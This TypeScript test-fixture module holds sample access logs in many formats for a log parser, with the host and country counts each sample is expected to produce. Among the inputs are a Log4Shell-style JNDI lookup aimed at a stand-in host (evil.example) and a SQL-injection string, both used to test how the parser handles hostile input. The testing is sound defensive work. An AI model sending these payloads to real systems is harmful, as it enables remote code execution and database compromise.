// Small logs as people have met them, one shape each, and what each must give. Addresses are those of public resolvers or documentation.

/** What the lines of one log become. `hosts` and `places` are of counted and late events together. */
export interface FieldExpectation {
  readonly counted: number;
  readonly late?: number;
  readonly dead?: Readonly<Record<string, number>>;
  readonly nulls?: number;
  readonly hosts?: Readonly<Record<string, number>>;
  /** Country codes; `(private)`, `(unknown)`, `(invalid)`. */
  readonly places?: Readonly<Record<string, number>>;
  /** Names of the formats that are found in the first lines. */
  readonly found?: string;
}

/** One log. */
export interface FieldCase {
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly expect: FieldExpectation;
  /** The clock while it is read; default: a month after the events. */
  readonly now?: string;
  /** Minutes; default 1. */
  readonly watermarkDelay?: number;
  readonly trustedProxyHops?: number;
  readonly format?: string;
}

/** Host of lines that name none. */
export const FILE_HOST = "file.example";
/** Places of the addresses that the cases use. */
export const COUNTRIES = { "8.8.8.0": "US", "193.0.6.0": "NL", "2001:4860:0:0:0:0:0:0": "US" } as const;

export const US = "8.8.8.8", NL = "193.0.6.139", US6 = "2001:4860:4860::8888";
export const AGENT = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0";
export const LINES = 8;

interface Combined {
  readonly ip?: string;
  readonly request?: string;
  readonly referrer?: string;
  readonly agent?: string;
  readonly before?: string;
  readonly behind?: string;
  readonly status?: string;
}

const two = (n: number) => String(n).padStart(2, "0");
/** The time of minute `i` after 10 o'clock, as an access log writes it. */
export const clf = (i: number) => `03/Mar/2026:${two(10 + Math.floor(i / 60))}:${two(i % 60)}:07 +0000`;
export const rfc = (i: number) => `2026-03-03T10:${two(i)}:00Z`;
export const unix = (i: number) => Date.UTC(2026, 2, 3, 10, i) / 1000;

export function combined(i: number, with_: Combined = {}): string {
  const { ip = US, request = "GET / HTTP/1.1", referrer = "-", agent = AGENT, status = "200 512" } = with_;
  return `${with_.before ?? ""}${ip} - - [${clf(i)}] "${request}" ${status} "${referrer}" "${agent}"${
    with_.behind ?? ""
  }`;
}

const encoder = new TextEncoder();
const latin1 = (text: string) => Uint8Array.from(text, (character) => character.charCodeAt(0));
export const joined = (lines: readonly string[], end = "\n") =>
  encoder.encode(lines.map((line) => line + end).join(""));
export const times = (line: (i: number) => string, lines = LINES) =>
  joined(Array.from({ length: lines }, (_, i) => line(i)));
export const json = (of: (i: number) => unknown) => times((i) => JSON.stringify(of(i)));

/** All lines are counted for the host of the file, and come from the US. */
export const ALL: FieldExpectation = { counted: LINES, hosts: { [FILE_HOST]: LINES }, places: { US: LINES } };
export const SHOP: FieldExpectation = { counted: LINES, hosts: { "shop.example": LINES }, places: { US: LINES } };
export const found = (of: FieldExpectation, name: string): FieldExpectation => ({ ...of, found: name });

export const minutes = (from: number, to: number) => Array.from({ length: to - from }, (_, i) => from + i);

function utf16(text: string): Uint8Array {
  const units = new Uint16Array(text.length);
  for (let i = 0; i < text.length; i++) units[i] = text.charCodeAt(i);
  return new Uint8Array(units.buffer);
}

/** Logs whose lines begin as combined ones do, with more around them. */
const AROUND: FieldCase[] = [
  { name: "the request's time behind the agent", bytes: times((i) => combined(i, { behind: ` 0.00${i}` })) },
  {
    name: "Traefik's default",
    bytes: times((i) => combined(i, { behind: ` ${i + 1} "shop@docker" "http://10.0.0.3:80" 2ms` })),
  },
  {
    name: "ingress-nginx's default",
    bytes: times((i) => combined(i, { behind: ` 512 0.013 [web-shop-80] [] 10.1.0.17:5000 512 0.013 200 83${i}508` })),
  },
  { name: "Jetty: two blanks", bytes: times((i) => combined(i).replace(" - - ", " -  -  ")) },
  {
    name: "user names with blanks",
    bytes: times((i) =>
      combined(i).replace(
        "- - [",
        `- ${["-", "joe", "John Doe", "joe@example.com", '""', "DOM\\\\joe", '"car5941 "', "a b c"][i]} [`,
      )
    ),
  },
  {
    name: "quoted fields behind the agent",
    bytes: times((i) =>
      combined(i, {
        behind: [
          ' "3.21"',
          ' "-"',
          ' "www.example.com"',
          ' "USERID=abc;IMPID=1"',
          ' "8.8.4.4" "0.005"',
          ' "" ',
          "",
          " ",
        ][i]!,
      })
    ),
  },
  { name: "docker json-file", bytes: json((i) => ({ log: `${combined(i)}\n`, stream: "stdout", time: rfc(i) })) },
  { name: "CRI", bytes: times((i) => `2026-03-03T10:0${i}:00.689166775Z stdout F ${combined(i)}`) },
  { name: "syslog", bytes: times((i) => `Mar  3 10:0${i}:08 web1 nginx: ${combined(i)}`) },
  { name: "a tag in front", bytes: times((i) => `nginx: ${combined(i)}`) },
  { name: "milliseconds", bytes: times((i) => combined(i).replace(":07 +0000", ":07.123 +0000")) },
  {
    name: "a byte order mark and CRLF",
    bytes: joined(minutes(0, LINES).map((i) => (i === 0 ? "\ufeff" : "") + combined(i)), "\r\n"),
  },
].map((row, i) => ({ ...row, expect: i < 6 || i > 8 ? found(ALL, "combined") : ALL }));

const SHAPES: FieldCase[] = [
  {
    name: "Apache and Python without referrer and agent",
    bytes: times((i) => `${US} - - [03/Mar/2026 10:0${i}:00] "GET / HTTP/1.1" 200 -`),
    expect: found(ALL, "common"),
  },
  {
    name: "lighttpd: the virtual host as ident",
    bytes: times((i) => combined(i).replace(" - - ", ` www${i % 2}.example.org - `)),
    expect: ALL,
  },
  {
    name: "lighttpd, by name",
    format: "lighttpd",
    bytes: times((i) => combined(i).replace(" - - ", ` www${i % 2}.example.org - `)),
    expect: { counted: LINES, hosts: { "www0.example.org": 4, "www1.example.org": 4 }, places: { US: LINES } },
  },
  {
    name: "blank lines, and blanks around lines",
    bytes: joined([
      combined(0),
      "",
      "   ",
      `${combined(1)} `,
      `${combined(2)}\t`,
      ` ${combined(3)}`,
      combined(4),
    ]),
    expect: { counted: 5, hosts: { [FILE_HOST]: 5 }, places: { US: 5 } },
  },
  {
    name: "quotes that no server escaped",
    bytes: joined([
      combined(0),
      combined(1, { agent: 'Dalvik/2.1.0 (Linux; Alba 10" Build/LMY47I)' }),
      combined(2, { referrer: 'https://ref.example/?q="x"' }),
      combined(3, { agent: 'foo " bar' }),
      combined(4, { request: 'GET /?a="b" HTTP/1.1' }),
      combined(5, { agent: 'esc \\" ok' }),
      combined(6, { agent: "nginx \\x22 ok" }),
      combined(7, { agent: "ends with backslash \\" }),
    ]),
    expect: ALL,
  },
  {
    name: "requests that are no requests",
    bytes: joined(
      [
        "-",
        "",
        "\\x16\\x03\\x01\\x02\\x00\\xfc\\x03\\x03",
        "GET /",
        "GET / HTTP/3.0",
        "PRI * HTTP/2.0",
        "GET /a b c HTTP/1.1",
        "CONNECT host.example:443 HTTP/1.1",
      ].map((request, i) => combined(i, { request, status: ["408 -", "400 0", "000 0", "0 -"][i % 4]! })),
    ),
    expect: ALL,
  },
  {
    name: "bytes that are not UTF-8",
    bytes: latin1(
      [
        combined(0),
        combined(1, { agent: "caf\xe9" }),
        combined(2, { request: "GET /\xa5\xff HTTP/1.0" }),
        combined(3, { agent: "Fire\x00fox" }),
        combined(4, { referrer: "http://\\xe4.example/" }),
      ].map((line) => `${line}\n`).join(""),
    ),
    expect: { counted: 5, hosts: { [FILE_HOST]: 5 }, places: { US: 5 } },
  },
  {
    name: "no newline behind the last line",
    bytes: times((i) => combined(i)).slice(0, -1),
    expect: found(ALL, "combined"),
  },
  {
    name: "lines of an error log, tail's headings and compose's prefix between them",
    bytes: joined([
      combined(0),
      '2026/03/03 10:00:05 [error] 31361#31361: *18 open() "/x" failed (2: No such file), client: 8.8.8.8',
      "==> /var/log/nginx/access.log <==",
      combined(1),
      `web_1  | ${combined(2)}`,
      combined(3),
    ]),
    expect: {
      counted: 4,
      dead: { bad_line: 2 },
      hosts: { [FILE_HOST]: 4 },
      places: { US: 4 },
      found: "combined, combined in compose",
    },
  },
  {
    name: "very long lines: above 1 MiB a line is dead, the next ones are not",
    bytes: joined([
      combined(0),
      combined(1, { request: `GET /?${"a".repeat(20_000)} HTTP/1.1` }),
      combined(2, { referrer: `https://ref.example/?${"b".repeat(20_000)}` }),
      combined(3, { request: `GET /?${"a".repeat(1_200_000)} HTTP/1.1` }),
      combined(4),
    ]),
    expect: { counted: 4, dead: { too_large: 1 }, hosts: { [FILE_HOST]: 4 }, places: { US: 4 } },
  },
  {
    name: "UTF-16, as PowerShell writes it",
    bytes: utf16(`\ufeff${minutes(0, LINES).map((i) => `${combined(i)}\r\n`).join("")}`),
    expect: { counted: 0, dead: { binary_value: 9 } },
  },
];

/** Logs in which the address or the host is not where one looks first. */
const PEERS: FieldCase[] = [
  {
    name: "X-Forwarded-For as first column: no address is a host",
    bytes: times((i) => combined(i, { ip: "10.0.0.5", before: i % 4 === 0 ? "- " : `8.8.8.${10 + i} ` })),
    expect: { counted: LINES, hosts: { [FILE_HOST]: LINES }, places: { "(private)": LINES } },
  },
  {
    name: "X-Forwarded-For as first column, one proxy trusted",
    trustedProxyHops: 1,
    bytes: times((i) => combined(i, { ip: "10.0.0.5", before: i % 4 === 0 ? "- " : `8.8.8.${10 + i} ` })),
    expect: { counted: LINES, hosts: { [FILE_HOST]: LINES }, places: { US: 6, "(private)": 2 } },
  },
  {
    name: "a list in place of the address",
    trustedProxyHops: 1,
    bytes: times((i) => combined(i, { ip: i % 2 === 0 ? US : "8.8.8.9, 10.183.250.139" })),
    expect: { counted: LINES, hosts: { [FILE_HOST]: LINES }, places: { US: LINES } },
  },
  {
    name: "nginx' main format behind a proxy: ports, zones, hidden and hostile entries",
    trustedProxyHops: 1,
    bytes: times((i) =>
      combined(i, {
        ip: "10.0.0.5",
        behind: ` "${
          [
            US,
            `${NL}, ${US}`,
            US6,
            `[${US6}]:443`,
            `unknown, ${US}`,
            "${jndi:ldap://evil.example/a}",
            "fe80::1%eth0",
            `${US}:51234`,
          ][i]
        }"`,
      })
    ),
    expect: { counted: LINES, hosts: { [FILE_HOST]: LINES }, places: { US: 6, "(private)": 2 } },
  },
  {
    name: "spellings of addresses",
    bytes: joined(
      [
        US6,
        `::ffff:${US}`,
        "fe80::1%eth0",
        `${US}:443`,
        `[${US6}]:50000`,
        "unix:",
        "crawl-8-8-8-8.bot.example",
        "-",
        "8.8.8.0",
        "8.8.8.xxx",
        "10.0.0.1",
        "127.0.0.1",
      ].map((ip, i) => combined(i, { ip })),
    ),
    expect: {
      counted: 12,
      hosts: { [FILE_HOST]: 12 },
      places: { US: 5, "(private)": 3, "(unknown)": 1, "(invalid)": 3 },
    },
  },
  {
    name: "virtual hosts: one site is one host",
    bytes: joined(
      ["www.example.com:443", "WWW.example.com:80", "shop.example", "default", "[2001:db8::1]:443", "-", "*:80", ":80"]
        .map((host, i) => combined(i, { before: `${host} ` })),
    ),
    expect: {
      counted: LINES,
      hosts: { "www.example.com": 2, "shop.example": 1, default: 1, [FILE_HOST]: 4 },
      places: { US: LINES },
    },
  },
  {
    name: "hosts in JSON: one site is one host",
    bytes: joined(
      [
        "www.example.com",
        "WWW.Example.COM",
        "www.example.com:443",
        "www.example.com:80",
        "www.example.com.",
        "münchen.example",
        "xn--mnchen-3ya.example",
        "[2001:db8::1]:8080",
        "10.0.0.1",
        " www.example.com",
        "-",
        "_",
        "*.example.com",
        "x' or 1=1--",
      ].map((host, i) => JSON.stringify({ host, ip: US, event_time: rfc(i) })),
    ),
    expect: {
      counted: 14,
      hosts: {
        "www.example.com": 6,
        "xn--mnchen-3ya.example": 2,
        "(address)": 2,
        [FILE_HOST]: 1,
        _: 1,
        "(invalid)": 2,
      },
      places: { US: 14 },
    },
  },
];

export const FIELD_CASES: readonly FieldCase[] = [...AROUND, ...SHAPES, ...PEERS];
